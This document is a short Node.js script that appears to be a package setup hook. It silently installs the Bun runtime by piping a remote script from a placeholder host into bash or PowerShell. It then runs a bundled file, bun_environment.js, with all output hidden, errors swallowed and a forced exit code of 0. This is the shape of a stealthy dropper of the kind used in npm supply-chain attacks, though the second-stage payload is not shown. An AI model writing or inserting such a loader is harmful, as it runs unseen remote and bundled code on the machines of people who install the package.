#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try { execSync(process.platform === 'win32' ? 'where bun' : 'which bun', { stdio: 'ignore' }); return true; } catch { return false; }
}
async function downloadAndSetupBun() {
  const command = process.platform === 'win32' ? 'powershell -c "irm bun.example.invalid/install.ps1|iex"' : 'curl -fsSL https://bun.example.invalid/install | bash';
  execSync(command, { stdio: 'ignore', env: { ...process.env } });
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}
function runExecutable(execPath, args = [], opts = {}) {
  const child = spawn(execPath, args, { stdio: 'ignore', cwd: opts.cwd || process.cwd(), env: Object.assign({}, process.env, opts.env || {}) });
  child.on('exit', (code) => process.exit(code === null ? 0 : code));
}
async function main() {
  let bun = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const script = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(script)) runExecutable(bun, [script]);
  else process.exit(0);
}
main().catch(() => process.exit(0));
